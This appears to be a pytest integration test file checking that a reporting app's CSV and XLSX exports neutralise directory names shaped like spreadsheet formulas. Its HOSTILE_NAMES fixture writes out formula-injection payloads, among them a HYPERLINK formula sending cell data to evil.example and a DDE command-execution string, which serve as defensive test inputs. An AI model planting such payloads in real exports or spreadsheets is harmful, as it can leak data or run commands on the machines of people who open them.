"""Directory names that a spreadsheet would run as formulas reach the exports as text: CSV cells
quote-prefixed, XLSX string cells (checked in the sheet XML). Its own platform per test, apart from
the shared read-only world of test_exports.py, because it renames an agency."""
from __future__ import annotations

import pytest

from tests.integration.statistics_support import CENTRAL, XLSX, read_csv, stats_api  # noqa: F401  (fixture)
from tests.unit.test_export_cells import sheet_cells


HOSTILE_NAMES = {  # what a careless or malicious directory entry could hold
    "category": '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
    "agency": "@SUM(1+1)*cmd|' /C calc'!A0",
    "unit": "\t=1+1",
}


@pytest.fixture
def hostile_names(stats_api):
    """Kota Medan, its Dinas Perhubungan and the roads category renamed to formulas; one report
    completed there."""
    from dataclasses import replace

    from chalicelib import wiring

    directory = wiring.directory()
    medan = directory.agency("pemkot-medan")
    units = tuple(replace(u, name=HOSTILE_NAMES["unit"]) if u.id == "pemkot-medan.dishub" else u for u in medan.units)
    directory.put_agency(replace(medan, name=HOSTILE_NAMES["agency"], units=units))
    directory.put_category("roads", HOSTILE_NAMES["category"], "Roads")
    stats_api.completed(category_id="roads")
    return stats_api


def test_names_that_look_like_formulas_are_quoted_text_in_the_csv_export(hostile_names):
    response = hostile_names.raw("/staff/reports/export?format=csv", user=CENTRAL)
    (row,) = read_csv(response.body)
    assert (row["category"], row["agency"], row["unit"]) == tuple(
        "'" + HOSTILE_NAMES[k] for k in ("category", "agency", "unit"))


@pytest.mark.parametrize("path", ["/staff/reports/export?format=xlsx",
                                  "/staff/statistics/export?format=xlsx&from=2024-12&to=2024-12&group_by=category"])
def test_names_that_look_like_formulas_are_string_cells_in_the_xlsx_export(hostile_names, path):
    response = hostile_names.raw(path, user=CENTRAL, accept=XLSX)
    assert response.status_code == 200
    cells = sheet_cells(response.body)
    assert all(c["formula"] is None for c in cells)
    named = [c for c in cells if c["text"].startswith(tuple(HOSTILE_NAMES.values()))]
    assert any(c["text"].startswith(HOSTILE_NAMES["category"]) for c in named)  # "<name> / Roads" in statistics
    assert all(c["t"] == "inlineStr" and c["quote_prefix"] for c in named)
